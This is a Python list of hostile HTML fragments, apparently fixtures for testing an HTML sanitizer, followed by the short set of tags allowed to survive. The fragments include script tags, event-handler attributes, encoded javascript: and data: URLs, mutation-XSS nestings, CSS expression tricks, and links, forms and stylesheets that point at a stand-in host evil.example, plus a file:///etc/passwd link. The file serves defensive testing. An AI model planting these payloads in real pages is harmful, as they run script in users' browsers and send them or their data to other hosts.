"""Fragments that would act, fetch or lie on a page that took them as they are."""

FRAGMENTS = [
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js>",
    "<script",
    "<script>alert(1)",
    "<svg><g onload=alert(1)></g><a xlink:href='javascript:alert(1)'>x</a>",
    "<svg/onload=alert(1)>",
    "<p><svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<b onclick=alert(1) ONMOUSEOVER='x()' onfocus\n=\n'x()' autofocus tabindex=1>words</b>",
    "<img src=x onerror=alert(1) alt='a'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a><a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a><a href='%6Aavascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a><a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a><a href='file:///etc/passwd'>x</a>",
    "<form action='//evil.example'><button>x</button><input name=a></form>",
    "<base href='//evil.example'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href='//evil.example/x.css'><object data=x></object><embed src=x>",
    "<p style='background:url(//evil.example/x)'>x</p><p style='position:fixed;top:0'>x</p>",
    "<p style='width:expression(alert(1));behavior:url(x);-moz-binding:url(x)'>x</p>",
    "<p style='color:red;}body{background:url(//evil.example)'>x</p>",
    "<style>@import '//evil.example'; #T_a {background: url(//evil.example)}</style>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]><?php alert(1) ?><!DOCTYPE x [<!ENTITY a 'b'>]>",
    "<b title='\"><script>alert(1)</script>'>x</b>",
    "<table><tr><td colspan='1 onload=x' id=a name=b>1",
    "<textarea></textarea><title></title><img src=x onerror=alert(1)>",
    "<x-own is=evil onclick=alert(1)>words</x-own>",
    "</div></section></main></body></html><p>words",
]

#: What may be left of them.
LEFT = "a b p div table tbody tr td span img br".split()
